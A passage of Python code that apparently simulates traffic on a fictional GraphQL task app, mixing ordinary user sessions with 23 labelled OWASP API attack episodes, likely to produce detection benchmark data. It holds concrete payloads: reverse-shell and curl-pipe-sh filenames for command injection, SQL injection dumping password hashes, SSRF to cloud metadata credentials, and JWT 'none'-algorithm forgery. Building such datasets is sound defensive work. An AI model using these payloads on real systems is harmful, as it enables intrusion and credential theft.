                t, old, cl.dc = s.r.choice(SNIPPETS), cl.dc, 'D-code'
                if s.r.random() < .7:
                    s.op(cl, 'AddComment', cardId=c['id'], body=t)
                else:
                    s.op(cl, 'UpdateCard', id=c['id'], input=dict(description=t))
                cl.dc = old
            yield s.r.expovariate(1 / 9000) + 60

    def onboarding(s):
        o = s.app.orgs[195]
        cl = s.client(s.address(70), 'web', o['users'][0], dc='D-onboard')
        s.login(cl, o['users'][0])
        for _ in range(2):
            s.op(cl, 'ImportBoard', url=f'https://files.otherboard.example/export/{s.r.getrandbits(40):010x}.json')
            yield 60
        for k in range(9):
            m = f'{s.r.choice(FIRST)}.{s.r.choice(LAST)}.{k}@{o["users"][0]["email"].split("@")[1]}'
            s.op(cl, 'InviteMember', email=m)
            s.S.spawn(s.S.now + s.r.uniform(300, 9000), s.joined(m, k))
            yield s.r.uniform(10, 30)

    def joined(s, m, k):
        u = s.app.mail[m]
        u['tz'] = 2
        cl = s.client('87.190.14.8' if k < 5 else s.address(k + 130), 'web', u, dc='D-onboard')
        x = data(s.op(cl, 'AcceptInvite', email=m, password=f'{s.r.choice(WORDS)}{s.r.randint(1000, 9999)}')).get('acceptInvite')
        s.keep(cl, x)
        yield from s.session(cl, u)
        cl.dc = None
        for t in s.starts(u, 2.2, False, 0):
            s.S.spawn(t, s.session(cl, u)) if t > s.S.now else None

    def password_day(s):
        for k, u in enumerate(s.app.orgs[125]['users']):
            def one(u=u):
                yield from s.signed(u['cl'], u)
                new, old, u['cl'].dc = f'{s.r.choice(WORDS)}{s.r.choice(WORDS).title()}{s.r.randint(10, 99)}', u['cl'].dc, 'D-pwday'
                if s.r.random() < .2:
                    s.op(u['cl'], 'ChangePassword', userId=u['id'], newPassword='short')
                    yield 12
                if data(s.op(u['cl'], 'ChangePassword', userId=u['id'], newPassword=new)).get('changePassword'):
                    u['mem'] = new
                u['cl'].dc = old
            s.S.spawn(s.S.local(6, 9) + s.r.expovariate(1 / 6000), one())

    def storm(s):
        """people at work in the outage press reload"""
        for u in s.r.sample(s.users, 30):
            s.S.spawn(s.outage + s.r.uniform(0, 20 * MIN), s.session(u['cl'], u, 3))


def build(name, seed, attacks, start='2026-05-13', days=9):
    w = World(name, seed, attacks, start, days)
    w.people()
    w.machines()
    w.S.spawn(w.S.local(5, 13.4), w.onboarding())
    w.password_day()
    w.storm()
    if attacks:
        Attack(w).plan()
    w.S.run()
    return w.S


EPISODES = [
    ('K01', 'introspection_recon', 'API9:2023', 'actor', 'medium', 'full introspection from outside without a token, two addresses'),
    ('K02', 'schema_suggestion_recon', 'API9:2023', 'actor', 'easy', '140 guessed field names, the suggestions in the errors are read'),
    ('K03', 'graphql_batch_brute_force', 'API2:2023', 'actor', 'medium', 'log-in guesses as 24 aliases a request, 14 requests, one guess succeeds'),
    ('K04', 'application_dos_deep_query', 'API4:2023', 'actor', 'medium', 'board/cards nesting of growing depth until the server times out'),
    ('K05', 'application_dos_alias_overload', 'API4:2023', 'actor', 'medium', 'the same search 90 times under aliases in a request, 7 requests'),
    ('K06', 'bola_enumeration', 'API1:2023', 'actor', 'easy', '115 card ids counted downward across organisations in five minutes'),
    ('K07', 'bola_enumeration_slow', 'API1:2023', 'actor', 'hard', 'an organisation administrator reads invoices of others by node id, three an hour '
        'for three days, between ordinary use'),
    ('K08', 'bola_write_account_takeover', 'API1:2023', 'actor', 'hard', 'member changes the passwords of five others by user id, then logs in as them'),
    ('K09', 'ssrf', 'API7:2023', 'actor', 'medium', 'board import and webhook test are pointed at local and metadata addresses'),
    ('K10', 'command_injection', 'API8:2023', 'actor', 'medium', 'shell strings in the file name of the board export'),
    ('K11', 'sql_injection_manual', 'API8:2023', 'actor', 'medium', 'SQL strings in the filter argument of the search, the last returns users'),
    ('K12', 'excessive_data_exposure_debug', 'API3:2023', 'actor', 'medium', 'undocumented systemDebug with environment and password hashes, from '
        'outside without a token'),
    ('K13', 'jwt_forging', 'API2:2023', 'actor', 'medium', 'changed, unsigned and guessed-secret tokens until a forged staff token is accepted'),
    ('K14', 'coupon_brute_force', 'API6:2023', 'actor', 'easy', '300 promotion codes by one account in 50 minutes'),
    ('K15', 'bfla_admin_function', 'API5:2023', 'actor', 'medium', 'ordinary member calls administrator functions, which answer'),
    ('K16', 'bfla_probe_denied', 'API5:2023', 'actor', 'medium', 'ordinary member tries administrator functions and is refused'),
    ('K17', 'mass_assignment', 'API3:2023', 'actor', 'hard', 'profile update carries role and plan fields nobody else sends; the role changes'),
    ('K18', 'stolen_token', 'API2:2023', 'actor', 'hard', 'opaque token of a phone user in another network and client for a day beside its owner'),
    ('K19', 'credential_stuffing_distributed', 'API2:2023', 'endpoint', 'hard', '150 addresses, two or three log-ins each over 30 hours, two succeed'),
    ('K20', 'data_overconsumption', 'API4:2023', 'actor', 'easy', 'member pages through the activity of the organisation with first: 400, 360 '
        'requests in a night'),
    ('K21', 'internal_endpoint_external', 'API9:2023', 'actor+endpoint', 'medium', 'the internal export is called from outside'),
    ('K22', 'response_schema_growth_pii', 'API3:2023', 'endpoint', 'medium', 'meta of the card activity starts to carry e-mail, phone, birth date and '
        'address of the actor to everybody'),
    ('K23', 'content_discovery', 'API9:2023', 'actor', 'easy', '240 unknown paths in two minutes')]


class Attack:
    def __init__(s, w):
        s.w, s.S, s.r, s.app, s.taken = w, w.S, w.S.rng, w.app, []
        for i, kind, owasp, scope, diff, text in EPISODES:
            s.S.episode(i, kind, owasp, scope, diff, text)

    def plan(s):
        at = dict(k23=(2, 4.2), k02=(2, 16.1), k12=(3, 11.3), k05=(3, 20.5), k04=(4, 6.4), k03=(4, 22.3), k07=(4, 11), k11=(5, 14.6), k16=(5, 16.2),
            k06=(5, 21.4), k09=(6, 11.2), k18=(6, 8.6), k14=(6, 22.7), k13=(7, 10.5), k15=(7, 12.6), k10=(7, 17.3), k21=(7, 15.4), k20=(7, 0.6),
            k17=(8, 10.2), k08=(8, 14.1))
        for k, (d, h) in at.items():
            s.S.spawn(s.S.local(d, h) + s.r.random() * 300, getattr(s, k)())
        for k in range(2):
            s.S.spawn(s.S.local(2, 13.8) + k * 1980, s.k01(k))
        lucky = s.r.sample(range(150), 2)
        for k in range(150):
            s.S.spawn(s.S.local(6, 18) + s.r.random() * 28 * HOUR, s.k19(k, k in lucky))

    def outside(s, ip, ua, ep):
        return s.w.client(ip, 'plain', ua=ua, ep=ep)

    def inside(s, i, ep, style='web', **k):
        """an account of the application: its own log-in, then not what others do"""
        u = s.w.users[i] if i == 1 else next(x for x in s.w.users[i:] if x['role'] == 'MEMBER' and x not in s.taken)
        s.taken.append(u)
        cl = s.w.client(k.pop('ip', u['cl'].ip), style, u, ep=ep, **k)
        s.w.login(cl, u)
        return u, cl

    def k01(s, k):
        cl = s.outside(['198.98.51.140', '45.148.10.71'][k], ['python-requests/2.31.0', WEB[2]][k], 'K01')
        s.S.call(cl, 'POST', GQL, js=dict(query=INTRO, operationName='IntrospectionQuery'))
        yield 20
        s.w.raw(cl, '{ __schema { mutationType { name } types { name fields { name args { name type { name kind } } } } } }')

    def k02(s):
        cl = s.outside('185.220.101.47', 'Mozilla/5.0 (X11; Linux x86_64; rv:109.0) Gecko/20100101 Firefox/115.0', 'K02')
        words = ('user me users account accounts boad bord cards crd task ticket member org orgs organisation invoic bill webhook '
                 'hook plan login log admin audit debug sys system search notif token session export import file upload attach comment event feed').split()
        words += [p + w for p in ('get', 'all', 'admin', 'list') for w in ('User', 'Users', 'Card', 'Board', 'Org', 'Invoice', 'Plan', 'Token',
            'Config', 'Setting', 'Log', 'Audit', 'Role', 'Group', 'Key', 'Secret', 'Team', 'Job', 'Report', 'Flag', 'Mail', 'Order', 'Project', 'Sprint')]
        for w in words[:120]:
            s.w.raw(cl, 'query { %s }' % w)
            yield s.r.uniform(.7, 2.8)
        for w in ('updatePass changePass setPass resetPwd createUser deleteUser updateUser setRole addMember removeMember '
                  'uploadFile deleteCard deleteBoard applyCode impersonate suspend setPlan signup register loginAs').split():
            s.w.raw(cl, 'mutation { %s }' % w)
            yield s.r.uniform(.7, 2.8)

    def k03(s):
        cl = s.outside('193.32.162.88', 'python-requests/2.28.2', 'K03')
        u = s.w.users[20]
        for k in range(14):
            g = [f'{s.r.choice(WORDS)}{s.r.choice(WORDS).title()}{s.r.randint(10, 99)}' for _ in range(24)]
            if k == 12:
                g[9] = u['pw']
            q = ' '.join(f'a{i}: login(email: "{u["email"]}", password: "{p}") {{ token }}' for i, p in enumerate(g))
            s.w.raw(cl, 'mutation { ' + q + ' }')
            yield s.r.uniform(3.4, 10.3)

    def k04(s):
        u, cl = s.inside(51, 'K04', 'plain', ip='146.70.124.9', ua='python-httpx/0.26.0')
        b = u['o']['bs'][0]['id']
        for d in range(1, 13):
            q = 'id title'
            for _ in range(d):
                q = 'id title board { name cards(first: 2) { %s } }' % q
            s.w.raw(cl, '{ board(id: "%s") { cards(first: 2) { %s } } }' % (b, q))
            yield s.r.uniform(13, 38)

    def k05(s):
        u, cl = s.inside(46, 'K05', 'plain', ip='37.120.217.5', ua='Go-http-client/1.1')
        for _ in range(7):
            q = ' '.join(f'x{k}: searchCards(text: "a", first: 60) {{ id title description }}' for k in range(90))
            s.w.raw(cl, 'query { ' + q + ' }')
            yield s.r.uniform(12, 20)

    def k06(s):
        u, cl = s.inside(40, 'K06', 'plain', ua='python-requests/2.31.0')
        top = max(c['id'] for b in u['o']['bs'] for c in b['cs'])
        for k in range(115):
            s.w.raw(cl, 'query($id: Int!) { card(id: $id) { id title description board { name organization { name } } comments { body author { name '
                'email } } attachments { url } } }', dict(id=top - k))
            yield s.r.uniform(1.1, 3.7)

    def k07(s):
        u = next(x for x in s.w.users if x['o']['n'] == 167 and x['role'] == 'ADMIN')
        cl = s.w.client(u['cl'].ip, 'web', u, ep='K07')
        n = 5111
        while s.S.now < s.w.st + 7.3 * DAY and n < 5340:
            yield from s.w.signed(cl, u)
            s.w.op(cl, 'InvoiceDetail', id=nid('Invoice', n))
            n += 1
            yield s.r.uniform(700, 1700)

    def k08(s):
        u, cl = s.inside(74, 'K08')
        prey = [v for v in s.w.users if v['o'] is u['o'] and v is not u][:2] + s.w.users[2:40:13]
        for v in prey:
            s.w.op(cl, 'ChangePassword', userId=v['id'], newPassword='Tavla2026!x')
            yield s.r.uniform(20, 90)
        for v in prey:
            c = s.w.client(cl.ip, 'web', u, ep='K08')
            s.w.login(c, v, 'Tavla2026!x')
            yield s.r.uniform(5, 20)
            s.w.op(c, 'Viewer')
            yield s.r.uniform(40, 200)

    def k09(s):
        u, cl = s.inside(1, 'K09')
        for x in ('http://127.0.0.1:8080/', 'http://localhost:9200/', 'http://169.254.169.254/latest/meta-data/iam/security-credentials/',
            'http://169.254.169.254/latest/meta-data/iam/security-credentials/tavla-node-role'):
            s.w.op(cl, 'ImportBoard', url=x)
            yield s.r.uniform(22, 62)
        h = data(s.w.op(cl, 'CreateWebhook', boardId=u['o']['bs'][0]['id'], url='http://172.21.40.30:9200/_cat/indices')).get('createWebhook')
        yield 9
        s.w.op(cl, 'TestWebhook', id=h['id'] if h else 1)

    def k10(s):
        u, cl = s.inside(64, 'K10')
        for x in ('a.pdf;id', 'a.pdf; cat /etc/passwd', '$(id).pdf', 'a.pdf | nc 45.148.10.71 4444 -e /bin/sh', 'a.pdf; sleep 6',
            '`curl http://45.148.10.71/x|sh`.pdf'):
            s.w.op(cl, 'ExportBoard', boardId=u['o']['bs'][0]['id'], filename=x)
            yield s.r.uniform(30, 70)

    def k11(s):
        u, cl = s.inside(56, 'K11')
        for x in ("is:open'", "is:open' OR '1'='1", "x' UNION SELECT 1,2,3-- -", "x' UNION SELECT id,email,password_hash FROM users-- -",
            "x'; SELECT pg_sleep(5)-- -", "x' UNION SELECT id,email,password_hash FROM users LIMIT 20 OFFSET 20-- -"):
            s.w.op(cl, 'SearchCards', text='a', filter=x, first=20)
            yield s.r.uniform(50, 110)

    def k12(s):
        cl = s.outside('89.234.157.254', 'curl/8.4.0', 'K12')
        for q in ('{ systemDebug { version env } }', '{ systemDebug { sessions { email passwordHash apiToken lastIp } } }',
            '{ systemDebug { version env sessions { email passwordHash apiToken lastIp } } }'):
            s.w.raw(cl, q)
            yield 20

    def k13(s):
        u, cl = s.inside(69, 'K13')
        cl.ident = None
        mine = dict(sub=str(u['n']), org=u['o']['n'], role='STAFF', iat=int(s.S.now), exp=int(s.S.now) + 9 * HOUR, jti='0f3c9a77b1e2')
        other = dict(mine, sub=str(s.w.users[0]['n']))
        own = cl.h['Authorization'].split('.')[-1]
        tries = [jwt(mine, sig=own), jwt(other, sig=own), jwt(mine, alg='none', sig=''), jwt(mine, alg='None', sig='')]
        tries += [jwt(mine, key=k) for k in 'secret password tavla changeme jwt-secret s3cr3t 123456 key tavla2026 admin qwerty supersecret'.split()]
        tries += [jwt(mine, alg='NONE', sig=''), jwt(mine, alg='nOnE', sig='')]
        for t in tries:
            cl.h['Authorization'] = 'Bearer ' + t
            s.w.op(cl, 'Viewer')
            yield s.r.uniform(6, 40)
        for _ in range(3):
            s.w.op(cl, 'AdminOrgs', first=50)
            yield s.r.uniform(15, 50)
            cl.h['Authorization'] = 'Bearer ' + jwt(dict(mine, sub=str(s.w.users[s.r.randint(0, 60)]['n'])), alg='nOnE', sig='')
            s.w.op(cl, 'Viewer')
            yield s.r.uniform(15, 50)

    def k14(s):
        u, cl = s.inside(80, 'K14')
        for _ in range(300):
            s.w.op(cl, 'ApplyPromo', code=f'{s.r.choice(["TEAM", "WELCOME", "SPRING", "SAVE", "TAVLA", "ANNUAL"])}{s.r.randint(5, 99)}')
            yield s.r.uniform(5, 15)

    def k15(s):
        u, cl = s.inside(49, 'K15')
        for v in s.r.sample(s.w.users, 4):
            s.w.op(cl, 'AdminUser', email=v['email'])
            yield s.r.uniform(20, 120)
        s.w.op(cl, 'AdminSetPlan', orgId=u['o']['id'], plan='business')
        yield 70
        for v in s.w.users[:2]:
            s.w.op(cl, 'AdminImpersonate', userId=v['id'])
            yield s.r.uniform(30, 120)

    def k16(s):
        u, cl = s.inside(61, 'K16')
        o = list(s.app.orgs.values())
        for n, v in (('AdminOrgs', dict(first=50)), ('AdminAudit', dict(first=50)), ('AdminSuspend', dict(orgId=o[1]['id'])), ('AdminSuspend',
            dict(orgId=o[2]['id'])), ('AdminOrgs', dict(first=10)), ('AdminAudit', dict(first=10)), ('AdminSuspend',
            dict(orgId=u['o']['id'])), ('Invoices', {})):
            s.w.op(cl, n, **v)
            yield s.r.uniform(10, 60)

    def k17(s):
        u, cl = s.inside(79, 'K17')
        cl.ep, keep = None, cl.ep
        s.w.op(cl, 'Viewer')
        yield 40
        cl.ep = keep
        s.w.op(cl, 'UpdateProfile', input=dict(name=u['name'], role='OWNER', isStaff=True))
        yield 60
        s.w.op(cl, 'UpdateProfile', input=dict(name=u['name'], role='OWNER', plan='business', emailVerified=True))

    def k18(s):
        u = next(x for x in s.w.users[45:] if x.get('ph') and 'Authorization' in x['ph'].h)
        cl = s.w.client('176.113.74.19', 'plain', u, ep='K18', ua='Mozilla/5.0 (X11; Linux x86_64; rv:124.0) Gecko/20100101 Firefox/124.0',
            headers={'Authorization': u['ph'].h['Authorization']})
        for h in (9, 11, 13.5, 17, 19, 21):        # The owner uses it the same day.
            s.S.spawn(s.S.local(6, h), s.w.session(u['ph'], u, 4))
        for _ in range(15):
            b = s.r.choice(u['o']['bs'])
            s.w.op(cl, 'MyBoards', first=10)
            for c in s.r.sample(b['cs'][-40:], min(2, len(b['cs']))):
                yield s.r.uniform(4, 40)
                s.w.op(cl, 'CardDetail', id=c['id'])
            if s.r.random() < .5:
                s.w.op(cl, 'AddComment', cardId=c['id'], body=s.r.choice(CHAT))
            yield s.r.uniform(900, 3600)

    def k19(s, k, lucky):
        r = s.r
        cl = s.w.client(f'{r.choice([103, 114, 122, 154, 177, 186, 197])}.{r.randint(1, 250)}.{r.randint(1, 250)}.{r.randint(1, 250)}', 'web', None,
            ep='K19', ua=r.choice(WEB))
        n = r.randint(2, 3)
        for i in range(n):
            v = r.choice(s.w.users)
            known = r.random() < .15 or lucky
            m = v['email'] if known else f'{r.choice(FIRST)}.{r.choice(LAST)}{r.randint(1, 999)}@{r.choice(["mail", "post", "inbox"])}.example'
            s.w.op(cl, 'Login', email=m, password=v['pw'] if lucky and i == n - 1 else f'{r.choice(WORDS)}{r.randint(1, 9999)}')
            yield r.uniform(30, 3000)

    def k20(s):
        u, cl = s.inside(11, 'K20', 'plain', ua='axios/1.6.7')
        for k in range(360):
            s.w.raw(cl, 'query($a: Int) { orgActivity(first: 400, after: $a) { seq kind at cardId meta actor { name email } } }', dict(a=k * 400))
            yield s.r.uniform(25, 65)

    def k21(s):
        cl = s.outside('194.165.16.77', 'curl/7.88.1', 'K21')
        for o in list(s.app.orgs)[:9]:
            s.S.call(cl, 'GET', f'/internal/export/{o}')
            yield s.r.uniform(60, 400)

    def k23(s):
        cl = s.outside('167.248.133.90', 'Fuzz Faster U Fool v2.1.0', 'K23')
        ends = WORDS + ['.env', 'admin', 'backup.zip', '.git/config', 'swagger.json', 'graphiql', 'console', 'users', 'login', 'config', 'metrics', 'debug']
        for p in [f'/{a}{b}' for a in ('', 'api/', 'internal/', 'v1/', 'static/', 'admin/', 'webhooks/') for b in ends][:240]:
            s.S.call(cl, 'GET', p)
            yield s.r.uniform(.3, .6)
